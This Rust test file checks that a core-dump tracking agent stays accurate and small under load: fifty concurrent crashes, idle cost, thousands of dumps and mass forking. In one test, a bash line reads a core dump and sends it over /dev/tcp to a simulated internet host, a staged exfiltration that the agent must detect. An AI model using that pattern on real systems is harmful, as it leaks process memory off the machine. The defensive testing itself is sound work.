//! Many at once: nothing is lost, or each loss is counted and told; and the agent stays small.

use std::{
    collections::{BTreeMap, BTreeSet},
    fs,
    os::unix::fs::PermissionsExt,
    path::{Path, PathBuf},
    process::Command,
    time::{Duration, Instant},
};

use sensor_user::step::{Confidence, StepKind};

use super::Own;
use crate::harness::{
    agent::{Agent, Setup},
    crash::Pattern,
    expect::step,
    guard::{Running, Undo},
    line::{Line, Step},
    roles,
    scene::{SOON, Scene, appears, python},
    world::{
        World,
        Zone::{Internet, Production},
        in_zone,
    },
};

pub(super) const ALL: &[Own] = &[
    ("scale::fifty_crashes_to_files", fifty_crashes_to_files),
    ("scale::fifty_crashes_to_a_handler", fifty_crashes_to_a_handler),
    ("scale::idle_costs_nothing", idle_costs_nothing),
    ("scale::three_hundred_dumps", three_hundred_dumps),
];

/// Minutes of load: they run with `-- --ignored`.
pub(super) const LONG: &[Own] = &[
    ("scale::ten_thousand_pipes_and_sockets", ten_thousand_pipes_and_sockets),
    ("scale::five_thousand_dumps", five_thousand_dumps),
    ("scale::fifty_thousand_forks", fifty_thousand_forks),
];

/// An agent of its own, and what goes with it.
struct Stage {
    agent: Agent,
    folder: tempfile::TempDir,
    _world: World,
}

impl Stage {
    fn set() -> Self {
        let (world, folder) = (World::make(), tempfile::Builder::new().prefix("dt-").tempdir().unwrap());
        let state = folder.path().join("agent");
        fs::create_dir(&state).unwrap();
        let agent = Agent::start(&state, &Setup::of(&world.config()));
        Self { agent, folder, _world: world }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// Waits until so many dumps were born that `wanted` takes.
    fn births(&self, count: usize, wanted: impl Fn(&Step) -> bool) -> Vec<Step> {
        let all = |lines: &[Line]| -> Vec<Step> {
            let steps = lines.iter().filter_map(|l| if let Line::Step(s) = l { Some(&**s) } else { None });
            steps.filter(|s| s.kind == StepKind::Created && wanted(s)).cloned().collect()
        };
        self.agent.within(Duration::from_mins(1), &format!("{count} births"), |lines| {
            let births = all(lines);
            (births.len() >= count).then_some(births)
        })
    }

    /// Resident memory without the kernel's rings, which are mapped into the agent and counted apart; MiB.
    fn resident(&self) -> u64 {
        let maps = fs::read_to_string(format!("/proc/{}/smaps", self.agent.pid())).unwrap();
        let (mut own, mut total) = (true, 0);
        for line in maps.lines() {
            if line.split(' ').next().is_some_and(|range| range.contains('-')) {
                own = !line.ends_with("anon_inode:bpf-map");
            } else if let Some(resident) = line.strip_prefix("Rss:").filter(|_| own) {
                total += resident.trim().trim_end_matches(" kB").parse::<u64>().unwrap();
            }
        }
        total / 1024
    }

    /// The bar on memory, once the agent has come to rest.
    fn is_small(&self) {
        let (end, most) = (Instant::now() + Duration::from_secs(20), self.resident());
        while self.resident() >= 64 && Instant::now() < end {
            std::thread::sleep(Duration::from_millis(500));
        }
        let resident = self.resident();
        println!("the agent holds {resident} MiB, after {most} MiB");
        assert!(resident < 64, "the agent holds {resident} MiB, after {most} MiB");
    }
}

/// Fifty processes with noise in memory, which wait for one gate and then crash. The pattern stays until the agent has read what came of it: by its words it knows whose dump a handler has.
fn fifty(stage: &Stage, pattern: &str) -> (BTreeSet<u32>, Pattern) {
    let gate = stage.path("gate");
    let mut victims: Vec<Running> = (0..50)
        .map(|_| Running::start(in_zone(Production, roles::program("victim")).arg("65536").arg(&gate)))
        .collect();
    let pids = victims.iter().map(Running::pid).collect();
    let pattern = Pattern::set(pattern);
    fs::write(&gate, "").unwrap();
    for victim in &mut victims {
        victim.within(Duration::from_mins(1));
    }
    (pids, pattern)
}

fn fifty_crashes_to_files() {
    let stage = Stage::set();
    let (pids, _pattern) = fifty(&stage, stage.path("core.%P").to_str().unwrap());
    let births = stage.births(50, |s| s.victim.is_some_and(|pid| pids.contains(&pid)));
    for birth in &births {
        let victim = birth.victim.unwrap();
        assert_eq!(birth.to, stage.path(&format!("core.{victim}")).to_str().unwrap(), "{}", birth.told());
    }
    let dumps: BTreeSet<_> = births.iter().map(|b| b.dump.clone()).collect();
    assert_eq!((births.len(), dumps.len()), (50, 50));
    stage.agent.stop();
}

/// Each dump has its victim, or the list of those that it may be; and what the handler stored for a victim is its dump.
fn fifty_crashes_to_a_handler() {
    let stage = Stage::set();
    let handler = stage.path("handler");
    fs::write(&handler, format!("#!/bin/sh\nexec cat > {}/stored.$1\n", stage.folder.path().display())).unwrap();
    fs::set_permissions(&handler, fs::Permissions::from_mode(0o755)).unwrap();
    fs::set_permissions(stage.folder.path(), fs::Permissions::from_mode(0o755)).unwrap();
    // Where systemd-coredump is installed no more than 16 handlers run at once, and the other cores are lost.
    let limit = "/proc/sys/kernel/core_pipe_limit";
    let _before = Undo::by(format!("echo {} > {limit}", fs::read_to_string(limit).unwrap().trim()));
    fs::write(limit, "0").unwrap();
    let (pids, pattern) = fifty(&stage, &format!("|{} %P", handler.display()));
    let suspects: BTreeSet<String> = pids.iter().map(|pid| format!("victim[{pid}]")).collect();
    let ours = |s: &Step| {
        s.victim.is_some_and(|pid| pids.contains(&pid)) || s.suspects.iter().any(|name| suspects.contains(name))
    };
    let births = stage.births(50, ours);
    drop(pattern);
    assert_eq!(births.len(), 50);
    let sure: BTreeMap<_, _> = births.iter().filter_map(|b| Some((b.victim?, b.dump.clone()?))).collect();
    let unsure = births.iter().filter(|b| b.victim.is_none()).count();
    println!("{} victims are known, {unsure} dumps have candidates", sure.len());
    assert_eq!(sure.len() + unsure, 50, "no victim has two dumps");
    stored(&stage, &sure);
    stage.agent.stop();
}

/// What a handler stored for a victim is its dump: the signal of the first crash arms, before any handler has begun.
fn stored(stage: &Stage, sure: &BTreeMap<u32, String>) {
    let written = |victim: &u32, dump: &String| {
        let to = stage.path(&format!("stored.{victim}"));
        let steps = stage.agent.steps(dump).into_iter();
        steps.filter(|s| s.kind == StepKind::Written).find(|s| Path::new(&s.to) == to)
    };
    let end = Instant::now() + SOON;
    let unseen = loop {
        let unseen: Vec<_> = sure.iter().filter(|(victim, dump)| written(victim, dump).is_none()).collect();
        if unseen.is_empty() || Instant::now() > end {
            break unseen;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    for step in sure.iter().filter_map(|(victim, dump)| written(victim, dump)) {
        assert!(step.dump_candidates.is_empty(), "{step:#?}");
    }
    assert!(unseen.is_empty(), "{unseen:?} {:?}", stage.agent.gaps());
}

/// Entries of each of the agent's hash maps, seen from outside.
fn maps(agent: &Agent) -> BTreeMap<String, usize> {
    let mut counts = BTreeMap::new();
    for entry in fs::read_dir(format!("/proc/{}/fdinfo", agent.pid())).unwrap() {
        let info = fs::read_to_string(entry.unwrap().path()).unwrap_or_default();
        let Some(id) = info.lines().find_map(|l| l.strip_prefix("map_id:")) else { continue };
        let ask = |verb: &str| {
            let output = Command::new("bpftool").args(["-j", "map", verb, "id", id.trim()]).output();
            serde_json::from_slice::<serde_json::Value>(&output.expect("bpftool is needed").stdout).unwrap_or_default()
        };
        let about = ask("show");
        if about["type"] == "hash" {
            let entries = ask("dump").as_array().map_or(0, Vec::len);
            counts.insert(about["name"].as_str().unwrap_or_default().to_owned(), entries);
        }
    }
    assert!(counts.len() > 5, "the maps can be read: {counts:?}");
    counts
}

/// Waits for a file that a script makes.
fn wait_for(path: &Path, deadline: Duration) {
    assert!(appears(path, deadline), "{} was not made", path.display());
}

/// Made, used and closed by a process that holds a dump and lives on.
fn ten_thousand_pipes_and_sockets() {
    let stage = Stage::set();
    let scene = Scene::new(&stage.agent);
    let dump = scene.core();
    let script = "import os, socket, sys, time
core, folder = sys.argv[1:]
data = open(core, 'rb').read(65536)
def step(name): os.close(os.open(folder + '/' + name, os.O_CREAT | os.O_WRONLY))
server = socket.create_server(('127.0.0.1', 0))
step('marked')
while not os.path.exists(folder + '/go'): time.sleep(.02)
for i in range(10000):
    r, w = os.pipe(); os.write(w, data[:64]); os.read(r, 64); os.close(r); os.close(w)
for i in range(9000):
    a, b = socket.socketpair(); a.send(data[:64]); b.recv(64); a.close(); b.close()
for i in range(1000):
    c = socket.create_connection(server.getsockname()); s, _ = server.accept(); c.send(data[:64]); s.recv(64); c.close(); s.close()
step('done')
time.sleep(120)";
    let mut command = in_zone(Production, python());
    let _running = Running::start(command.args(["-c", script, &dump.path]).arg(stage.folder.path()));
    wait_for(&stage.path("marked"), SOON);
    scene.sees(&dump, &step(StepKind::Read).bytes(65536));
    std::thread::sleep(Duration::from_secs(3));
    let before = maps(&stage.agent);
    fs::write(stage.path("go"), "").unwrap();
    wait_for(&stage.path("done"), Duration::from_mins(2));
    // Looking takes processor time of its own.
    let start = Instant::now();
    std::thread::sleep(Duration::from_secs(7));
    loop {
        let now = maps(&stage.agent);
        // Other processes of this machine may hold dumps as well.
        let more: Vec<_> = now.iter().filter(|(name, count)| **count > before.get(*name).unwrap_or(&0) + 50).collect();
        if more.is_empty() {
            break println!("back within {:?}", start.elapsed());
        }
        assert!(start.elapsed() < Duration::from_secs(10), "still there: {more:?}; before {before:?}");
        std::thread::sleep(Duration::from_millis(200));
    }
    stage.is_small();
    told(&stage);
    stage.agent.stop();
}

/// What was lost stands in gaps, with its cause.
fn told(stage: &Stage) {
    for gap in stage.agent.gaps() {
        println!("gap: {} {} ({} dumps)", gap.count, gap.cause, gap.dumps.len());
    }
}

/// How much the threads of the agent have run, by the count of the scheduler (ticks miss what ends between them), and how
/// often they have waited for something.
fn used(agent: &Agent) -> (Duration, u64) {
    let (mut used, mut waits) = (Duration::ZERO, 0);
    for thread in fs::read_dir(format!("/proc/{}/task", agent.pid())).unwrap().flatten() {
        let of = |file: &str| fs::read_to_string(thread.path().join(file)).unwrap();
        used += Duration::from_nanos(of("schedstat").split_ascii_whitespace().next().unwrap().parse().unwrap());
        let status = of("status");
        let line = status.lines().find_map(|line| line.strip_prefix("voluntary_ctxt_switches:")).unwrap();
        waits += line.trim().parse::<u64>().unwrap();
    }
    (used, waits)
}

/// No dump is alive, so nothing is followed: the agent looks around once a second. How long a look takes is the machine's
/// and the build's affair (docs/performance.md); how often it looks is not.
fn idle_costs_nothing() {
    const SECONDS: u64 = 10;
    let stage = Stage::set();
    std::thread::sleep(Duration::from_secs(2));
    let (used_before, waits_before) = used(&stage.agent);
    std::thread::sleep(Duration::from_secs(SECONDS));
    let (used, waits) = used(&stage.agent);
    let waits = waits - waits_before;
    let share = used.saturating_sub(used_before).as_secs_f64() / SECONDS as f64 * 100.0;
    println!("idle: woken {waits} times, {share:.3} % of a core");
    let alive = stage.agent.steps_where(|s| matches!(s.kind, StepKind::Found | StepKind::Created)).len();
    assert!(waits <= 4 * SECONDS || alive > 0, "woken {waits} times in {SECONDS} s while no dump is alive");
    stage.is_small();
    stage.agent.stop();
}

fn five_thousand_dumps() {
    many_dumps(5000).agent.stop();
}

/// More dumps at rest than there are colours: only who reads one takes a colour, and nobody does.
fn three_hundred_dumps() {
    let stage = many_dumps(300);
    let lost: Vec<_> = stage.agent.gaps().into_iter().filter(|gap| gap.cause != "arming_window").collect();
    assert!(lost.is_empty(), "{lost:?}");
    stage.agent.stop();
}

/// Real crashes of a small shell, one after the other, all dumps alive at the end.
fn many_dumps(count: usize) -> Stage {
    let stage = Stage::set();
    let shared = tempfile::Builder::new().prefix("dt-").tempdir_in("/dev/shm").unwrap();
    {
        let _pattern = Pattern::set(shared.path().join("core.%P").to_str().unwrap());
        let line =
            format!("ulimit -c unlimited; i=0; while [ $i -lt {count} ]; do sh -c 'kill -ABRT $$'; i=$((i+1)); done");
        let mut command = in_zone(Production, "sh");
        let mut shell = Running::start(command.args(["-c", &line]).stderr(std::process::Stdio::null()));
        assert!(shell.within(Duration::from_mins(10)).code().is_some());
    }
    let here = |s: &Step| s.kind == StepKind::Created && Path::new(&s.to).starts_with(shared.path());
    let end = Instant::now() + Duration::from_mins(1);
    while stage.agent.steps_where(here).len() < count && Instant::now() < end {
        std::thread::sleep(Duration::from_millis(500));
    }
    let births = stage.agent.steps_where(here);
    let lost: u64 = stage.agent.gaps().iter().map(|g| g.count).sum();
    println!("{} births, {lost} losses in gaps", births.len());
    told(&stage);
    assert!(births.len() as u64 + lost >= count as u64, "{} births and {lost} told losses", births.len());
    for birth in &births {
        let victim = birth.victim.map(|pid| shared.path().join(format!("core.{pid}")));
        assert_eq!(victim.as_deref(), Some(Path::new(&birth.to)), "{}", birth.told());
    }
    stage.is_small();
    stage
}

/// A shell that holds a dump forks fifty thousand times; then one child sends.
fn fifty_thousand_forks() {
    let stage = Stage::set();
    let scene = Scene::new(&stage.agent);
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Internet, Production, 1000);
    let before = maps(&stage.agent);
    let address = Internet.address(Production);
    // A subshell whose output is built in: no exec between the memory and the network.
    let line = format!(
        "read -r -n 65536 data < {}; i=0; while [ $i -lt 50000 ]; do (:); i=$((i+1)); done
         (printf '%s' \"$data$data\"; printf '%2000s' x) > /dev/tcp/{address}/{port}",
        dump.path
    );
    let mut command = in_zone(Production, "bash");
    let mut shell = scene.start(command.args(["-c", &line]));
    assert!(shell.within(Duration::from_mins(10)).success() && sink.within(SOON).success());
    let sent = step(StepKind::Sent).from("bash[]").zones("production", "internet").destination(address, port);
    let sent = scene.sees(&dump, &sent);
    assert!(sent.confidence >= Confidence::Derived, "{}", sent.told());
    told(&stage);
    std::thread::sleep(Duration::from_secs(10));
    let after = maps(&stage.agent);
    let more: Vec<_> = after.iter().filter(|(name, count)| **count > before.get(*name).unwrap_or(&0) + 50).collect();
    assert!(more.is_empty(), "{more:?} before {before:?}");
    stage.is_small();
    stage.agent.stop();
}
